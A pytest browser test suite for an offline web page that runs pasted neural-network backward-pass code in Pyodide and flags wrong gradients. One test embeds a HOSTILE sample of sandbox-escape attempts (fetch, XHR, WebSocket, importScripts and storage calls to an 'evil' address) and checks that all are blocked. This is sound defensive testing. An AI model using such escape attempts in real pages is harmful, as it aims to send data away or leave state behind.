"""The page on which a backward pass is pasted, in headless Chromium and without a network."""

import base64
import gzip
import json
import os
import shutil
import time
import zlib

import pytest

from tests.browser.tools import ROOT, Quiet, chromium_or_skip, of_site, pyodide_or_skip, served

PAGE = ROOT / "docs" / "site" / "page"
#: Of each example the line that is wrong, and what should stand there.
MISTAKES = {
    "1-affine": ("db = dout.mean(axis=0)", "db = dout.sum(axis=0)"),
    "2-batch-norm": ("std**-2", "std ** (-3)"),
    "3-lstm-cell": ("dft = dc * c_next", "dc * c_prev"),
    "4-attention": ("dq = dscores @ k", "/ np.sqrt(d)"),
    "5-word2vec": ("grad_outside[negatives] +=", "np.add.at(grad_outside, negatives"),
    "6-my-rnn": ("self.dWh += self.h[:, t + 1].T @ da", "self.h[:, t].T @ da"),
}
LOADS, ANSWERS = 10, 3  # seconds, on two quiet cores


def in_time(seconds, limit):
    """Whether it was quick enough; on a machine that is busy nobody can say."""
    return seconds < limit or os.getloadavg()[0] > os.cpu_count()


@pytest.fixture(scope="module")
def page_folder(tmp_path_factory):
    chromium_or_skip()
    return of_site("page_build").build(
        tmp_path_factory.mktemp("site") / "check", local=pyodide_or_skip()
    )


@pytest.fixture(scope="module")
def browser():
    path = chromium_or_skip()
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        chromium = playwright.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield chromium
        chromium.close()


@pytest.fixture(scope="module")
def site(page_folder):
    with served(page_folder.parent) as (address, server):
        yield address, server


@pytest.fixture(scope="module")
def opened(browser, site):
    """A page that is ready, and the seconds that this took."""
    address, _ = site
    context = browser.new_context()
    context.route(
        "**",
        lambda route: route.continue_() if route.request.url.startswith(address) else route.abort(),
    )
    page = context.new_page()
    start = time.perf_counter()
    page.goto(f"{address}check/index.html")
    wait_until_ready(page)
    yield page, time.perf_counter() - start
    context.close()


def wait_for(page, condition, timeout=60_000):
    """Wait as ``wait_for_function`` does, which the page's policy does not let evaluate."""
    end = time.monotonic() + timeout / 1000
    while not page.evaluate(condition):
        assert time.monotonic() < end, page.inner_text("#status")
        time.sleep(0.1)


def wait_until_ready(page):
    wait_for(page, "!document.getElementById('run').disabled", timeout=120_000)


def code_of(page):
    return page.evaluate(
        "[...document.querySelectorAll('.cm-line')].map((n) => n.textContent).join('\\n')"
    )


def run(page):
    """Seconds from the click to the report."""
    start = time.perf_counter()
    page.click("#run")
    wait_for(page, "/Took/.test(document.getElementById('status').textContent)", timeout=60_000)
    return time.perf_counter() - start


def write(page, code):
    page.click(".cm-content")
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(code)


@pytest.mark.slow
def test_the_page_is_ready_in_time(opened, record_property):
    page, seconds = opened
    print(f"ready after {seconds:.1f} s")
    assert page.evaluate("document.body.dataset.editor") in ("codemirror", "plain")
    assert in_time(seconds, LOADS)


@pytest.mark.slow
def test_the_first_load_is_ten_megabytes_at_most(page_folder):
    settings = json.loads((page_folder / "settings.json").read_text("utf-8"))
    lock = json.loads((page_folder / "pyodide" / "pyodide-lock.json").read_text("utf-8"))
    python = [
        "pyodide.mjs",
        "pyodide.asm.js",
        "pyodide.asm.wasm",
        "python_stdlib.zip",
        "pyodide-lock.json",
    ]
    python += [lock["packages"][name]["file_name"] for name in settings["packages"]]
    files = [path for path in page_folder.iterdir() if path.is_file()]
    files += [page_folder / "pyodide" / name for name in python]
    sizes = {path.name: len(gzip.compress(path.read_bytes())) for path in files}
    print(sizes)
    assert sum(sizes.values()) <= 10_000_000


@pytest.mark.slow
@pytest.mark.parametrize("name", MISTAKES)
def test_the_mistake_of_every_example_is_named_and_marked(name, opened, page_folder):
    page, _ = opened
    wrong, right = MISTAKES[name]
    titles = json.loads((page_folder / "settings.json").read_text("utf-8"))["examples"]
    page.click(f"#examples button:text-is('{titles[name]}')")
    page.wait_for_selector("#result", state="hidden")
    seconds = run(page)
    print(f"{name}: {seconds:.1f} s")
    assert page.inner_text("#verdict") == "A gradient is wrong"
    assert wrong in page.inner_text(".wrong-line")
    assert right in page.inner_text(".note code")
    assert in_time(seconds, ANSWERS)
    page.click(".note button")  # the repair is put in, and checked
    wait_for(page, "document.getElementById('verdict').textContent === 'All gradients are right'")


@pytest.mark.slow
def test_on_a_phone_the_repair_of_a_long_line_is_in_view(opened):
    page, _ = opened
    code = (PAGE / "examples" / "1-affine.py").read_text("utf-8")
    size = page.viewport_size
    page.set_viewport_size({"width": 400, "height": 800})
    write(page, f"{code}\n# {'long ' * 60}")
    run(page)
    box = page.locator(".note button").bounding_box()
    assert box["x"] > 0
    assert box["x"] + box["width"] < 400
    assert page.evaluate("document.documentElement.scrollWidth") <= 400
    page.set_viewport_size(size)


@pytest.mark.slow
def test_an_error_of_the_code_is_shown_at_its_line(opened):
    page, _ = opened
    write(
        page,
        "# check: f --input 'x=3,2'\n"
        "def f_forward(x):\n    return undefined, x\ndef f_backward(dout, x): return dout",
    )
    run(page)
    assert page.inner_text("#verdict") == "No verdict"
    assert "undefined" in page.inner_text("#report")
    assert "return undefined" in page.inner_text(".wrong-line")


@pytest.mark.slow
def test_a_loop_that_does_not_end_is_stopped_and_the_page_goes_on(opened):
    page, _ = opened
    page.click("#examples button >> nth=0")
    page.wait_for_selector("text=affine_backward")
    code = code_of(page)
    write(page, "while True:\n    pass\n")
    page.click("#run")
    page.wait_for_selector("#stop:visible")
    wait_for(
        page, "/Stopped after/.test(document.getElementById('report').textContent)", timeout=300_000
    )
    wait_until_ready(page)
    write(page, code)
    run(page)
    assert "db = dout.mean(axis=0)" in page.inner_text(".wrong-line")


@pytest.mark.slow
def test_a_link_opens_with_its_code(opened, browser, site):
    page, _ = opened
    write(page, "# λ: my own code\nx = 1\n")
    page.click("#share")
    wait_for(page, "location.hash.startsWith('#code=')")
    other = browser.new_context().new_page()
    asked = []
    other.on("request", lambda request: asked.append(request.url))
    other.goto(page.url)
    other.wait_for_selector(".cm-line")
    wait_for(other, "document.querySelector('.cm-content').textContent.includes('my own code')")
    assert "λ" in code_of(other)
    assert not any("#code" in url for url in asked)
    other.context.close()


@pytest.mark.slow
def test_it_opens_without_a_network_once_it_was_loaded(browser, site, page_folder):
    with served(page_folder.parent) as (address, server):
        page = browser.new_context().new_page()
        page.goto(f"{address}check/index.html")
        wait_until_ready(page)
        server.shutdown()
        server.server_close()
        page.reload()
        wait_until_ready(page)
        run(page)
        assert page.inner_text("#verdict") == "A gradient is wrong"
        page.context.close()


#: What code can try in its worker, to leave something behind or to send something away.
HOSTILE = """# check: f --input "x=3,2"
import js, sys, urllib.request
from pyodide.code import run_js
A, sys.done = "ADDRESS" + "evil", []
def opened(kind, *arguments):
    made = kind.new()
    made.open("GET", A, *arguments)
    made.send()
attempts = {
    "caches": lambda: js.caches.open("deepnlp-check-2"),
    "database": lambda: js.indexedDB.open("a"),
    "files": lambda: js.navigator.storage.getDirectory(),
    "eval": lambda: js.eval("1"),
    "run_js": lambda: run_js("1"),
    "function": lambda: js.Function.new("return 1"),
    "request": lambda: opened(js.XMLHttpRequest, False),
    "later request": lambda: opened(js.XMLHttpRequest).no_answer,
    "fetch": lambda: js.fetch(A),
    "first fetch": lambda: js.Reflect.get(js.WorkerGlobalScope.prototype, "fetch").call(js.self, A),
    "socket": lambda: js.WebSocket.new(A.replace("http", "ws")).no_answer,
    "events": lambda: js.EventSource.new(A).no_answer,
    "worker": lambda: js.Worker.new(A).no_answer,
    "scripts": lambda: js.importScripts(A),
    "Python": lambda: urllib.request.urlopen(A),
}
for name, attempt in attempts.items():
    try:
        result = attempt()
        if hasattr(result, "then"):
            result.then(lambda *_, name=name: sys.done.append(name), lambda *_: None)
        else:
            sys.done.append(name)
    except BaseException as error:
        print(name, "refused:", str(error)[:80])
def f_forward(x):
    return x * x, x
def f_backward(dout, x):
    return 2 * dout * x
"""
LATER = (
    HOSTILE[: HOSTILE.index("import js")]
    + """import sys
print("done:", sys.done)
"""
    + HOSTILE[HOSTILE.index("def f_forward") :]
)


@pytest.mark.slow
def test_code_leaves_nothing_behind_and_sends_nothing_away(browser, page_folder, monkeypatch):
    asked, answer = [], Quiet.do_GET
    monkeypatch.setattr(Quiet, "do_GET", lambda self: (asked.append(self.path), answer(self)))
    with served(page_folder.parent) as (address, _):
        page = browser.new_context().new_page()
        page.goto(f"{address}check/index.html")
        wait_until_ready(page)
        before = kept(page)
        assert before[0]
        write(page, HOSTILE.replace("ADDRESS", address))
        run(page)
        page.wait_for_timeout(1000)
        write(page, LATER)
        run(page)
        assert page.text_content("#printed pre").strip() == "done: []"
        assert asked
        assert not [path for path in asked if "evil" in path]
        assert kept(page) == before
        page.context.close()


def kept(page):
    """What the page has in its caches, each with its size, and its databases."""
    return page.evaluate("""async () => {
        const all = [];
        for (const name of await caches.keys()) {
            const cache = await caches.open(name);
            for (const request of await cache.keys()) {
                const size = (await (await cache.match(request)).arrayBuffer()).byteLength;
                all.push([request.url, size]);
            }
        }
        return [all.sort(), (await indexedDB.databases()).length, localStorage.length];
    }""")


@pytest.mark.slow
def test_a_file_with_another_content_is_not_run(browser, page_folder, tmp_path):
    changed = tmp_path / "check"
    shutil.copytree(page_folder, changed, symlinks=True)
    (changed / "checking.py").write_text("check = print")
    with served(tmp_path) as (address, _):
        page = browser.new_context().new_page()
        page.goto(f"{address}check/index.html")
        wait_for(page, "/could not be loaded/.test(document.getElementById('status').textContent)")
        assert page.is_disabled("#run")
        page.context.close()


@pytest.mark.slow
def test_a_link_that_unpacks_to_too_much_is_refused(browser, site):
    address, _ = site
    packed = zlib.compress(b"a" * 50_000_000, 9, -15)
    letters = base64.urlsafe_b64encode(packed).decode().rstrip("=")
    page = browser.new_context().new_page()
    page.goto(f"{address}check/index.html#code={letters}")
    wait_until_ready(page)
    assert "dout.mean" in code_of(page)
    page.context.close()


@pytest.mark.slow
def test_without_its_editor_the_page_has_a_textarea(browser, site):
    address, _ = site
    page = browser.new_context().new_page()
    page.goto(f"{address}check/index.html?plain")
    wait_until_ready(page)
    assert "dout.mean" in page.input_value("#plain")
    run(page)
    page.click(".note button")
    wait_for(page, "document.getElementById('verdict').textContent === 'All gradients are right'")
    page.context.close()


def test_the_repairs_of_the_examples_are_found_by_python_too(monkeypatch):
    monkeypatch.syspath_prepend(PAGE)
    import checking

    for name, (wrong, right) in MISTAKES.items():
        code = (PAGE / "examples" / f"{name}.py").read_text("utf-8")
        answer = json.loads(checking.check(code))
        mark = answer["marks"][0]
        assert answer["ok"] is False, name
        assert wrong in code.splitlines()[mark["line"] - 1]
        assert right in mark["right"]
        repaired = code.replace(mark["wrong"], mark["right"])
        assert json.loads(checking.check(repaired))["ok"] is True


def test_code_without_a_comment_is_understood_or_told_what_to_say(monkeypatch):
    monkeypatch.syspath_prepend(PAGE)
    import checking

    pair = (
        "def f_forward(x):\n    return x * x, x\ndef f_backward(dout, x):\n    return {} * dout\n"
    )
    assert json.loads(checking.check(pair.format("2 * x")))["ok"] is True
    assert json.loads(checking.check(pair.format("x")))["ok"] is False
    lines = "import numpy as np\nx = np.arange(1.0, 4.0)\n"
    lines += "y = x * x\ndy = y\nloss = (y**2).sum() / 2\ndx = dy * x\n"
    assert json.loads(checking.check(lines))["ok"] is False
    asked = json.loads(checking.check("def g_forward(x, w):\n    return x @ w, (x, w)\n"))
    assert asked["ok"] is None
    assert "# check:" in asked["text"]
    broken = json.loads(checking.check("def f(:\n"))
    assert broken["marks"][0]["line"] == 1
    assert json.loads(checking.check("import sys\nsys.exit(3)\n"))["ok"] is None


def test_of_two_mistakes_both_are_marked(monkeypatch):
    monkeypatch.syspath_prepend(PAGE)
    import checking

    code = (PAGE / "examples" / "6-my-rnn.py").read_text("utf-8")
    twice = code.replace("self.db += da.sum(axis=0)", "self.db += da.mean(axis=0)")
    marks = json.loads(checking.check(twice))["marks"]
    lines = [twice.splitlines()[mark["line"] - 1].strip() for mark in marks]
    assert sorted(lines) == [
        "self.dWh += self.h[:, t + 1].T @ da",
        "self.db += da.mean(axis=0)",
    ]


def test_a_cell_that_calls_the_functions_gives_the_arguments(monkeypatch):
    monkeypatch.syspath_prepend(PAGE)
    import checking

    code = """import numpy as np
def scale_forward(x, p):
    return x * p["w"], (x, p)
def scale_backward(dout, cache):
    x, p = cache
    return {"dx": dout * p["w"], "dw": (dout * x).sum(axis=1)}
p_tmp = {"w": np.full((3,), 2.0)}
out, cache_tmp = scale_forward(np.random.randn(4, 3), p_tmp)
"""
    assert [vars(target)["name"] for target in checking.targets(code)] == ["scale"]
    assert json.loads(checking.check(code))["ok"] is not True
    assert json.loads(checking.check(code.replace("axis=1", "axis=0")))["ok"] is True
    assert "the cell that tries it" in checking.check(code[: code.index("p_tmp =")])
